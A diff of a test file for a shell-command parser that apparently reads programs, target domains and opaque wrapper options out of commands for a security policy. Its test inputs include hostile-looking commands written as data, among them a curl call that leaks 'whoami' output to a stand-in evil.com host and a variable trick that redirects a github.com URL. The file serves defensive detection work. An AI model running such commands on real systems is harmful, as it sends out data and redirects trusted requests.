@@ -25,8 +25,9 @@ const UNTERMINATED = [
   "f() { ls", "case x in a) ls", "while true; do ls", "a=(1 2",
 ];
 
-// Whether the reader runs with the test policy's program descriptions (policy.ts).
-let described = false;
+// Whether the reader runs with the test policy's program descriptions (policy.ts): wrappers
+// among them, whose options the reader knows only from there.
+let described = true;
 
 // Reads `command` into a fresh table; returns the table's status.
 function run(command: string, maxDepth: u32 = 4, maxTargets: u32 = 1000): i32 {
@@ -80,6 +81,7 @@ function paths(command: string): string {
 
 describe("shell: simple commands", () => {
   beforeAll(() => {
+    installPolicy();
     configureTestEnv();
   });
 
@@ -153,7 +155,7 @@ describe("shell: nested commands", () => {
     expect(programs("bash -lc 'curl x' name arg")).toBe("bash,curl");
     expect(programs("bash -o pipefail -c 'curl x'")).toBe("bash,curl");
     expect(programs("bash script.sh -c 'curl x'")).toBe("bash");
-    expect(programs("env - nohup x")).toBe("env,nohup,x");
+    expect(programs("env - nohup x")).toBe("env,-,nohup,x");
     expect(programs("eval 'curl x' \"wget y\"")).toBe("eval,curl"); // eval joins its words: curl x wget y
     expect(programs("trap 'curl x' EXIT")).toBe("trap,curl");
     expect(programs("su - root -c 'curl x'")).toBe("su,* (p),curl");
@@ -169,6 +171,7 @@ describe("shell: nested commands", () => {
     expect(programs("find / -exec sh -c 'curl x' \\; -exec wget y +")).toBe("find,sh,curl,wget");
     described = false;
     expect(programs("find . -exec rm {} \\;")).toBe("find"); // undescribed: its words are read by shape
+    described = true;
   });
 
   it("stops at MAX_SHELL_DEPTH with a limit, not silence", () => {
@@ -191,6 +194,20 @@ describe("shell: wrappers", () => {
     expect(programs("chroot /srv/root curl x")).toBe("chroot,curl");
     expect(programs("exec 3>&1")).toBe("exec");
     expect(programs("command -v curl")).toBe("command,curl");
+    expect(programs("xargs -i curl {}")).toBe("xargs,curl"); // -i's value is attached, or {}
+    expect(domains("xargs -I % curl https://h.example/%")).toBe("h.example"); // the path is unknown
+    expect(domains("xargs -I % curl https://h.example%/")).toBe("h.example** (p)"); // the host is
+    expect(programs("nice -5 cat x")).toBe("nice,cat");
+    expect(opaque("nice -5 cat x")).toBe("");
+  });
+
+  it("calls opaque an option of a wrapper its entry does not know: the program may start later", () => {
+    expect(opaque("sudo --frob x curl y")).toBe("wrapper option --frob");
+    expect(opaque("sudo --frob=x curl y")).toBe("");
+    described = false;
+    expect(programs("sudo -u root curl x")).toBe("sudo,root");
+    expect(opaque("sudo -u root curl x")).toBe("wrapper option -u");
+    described = true;
   });
 
   it("reads env -S and --split-string as command lines", () => {
@@ -221,6 +238,8 @@ describe("shell: targets", () => {
     expect(targetsOf(SUBJ_DOMAIN)).toBe("github.com,mirror.example");
     expect(programs("curl \"https://$(whoami).evil.com/x\"")).toBe("curl,whoami");
     expect(targetsOf(SUBJ_DOMAIN)).toBe("**.evil.com (p)");
+    expect(domains("curl https://github.com$x/y")).toBe("github.com** (p)"); // $x=.evil.com
+    expect(domains("curl https://github.com/$x")).toBe("github.com");
   });
 
   it("takes path-shaped words, @files, values and attached option paths", () => {
@@ -495,9 +514,6 @@ describe("shell: what the policy says of programs", () => {
     installPolicy();
     configureTestEnv();
     described = true;
-  });
-  afterAll(() => {
-    described = false;
   });
 
   it("reads a recursive read as a tree", () => {
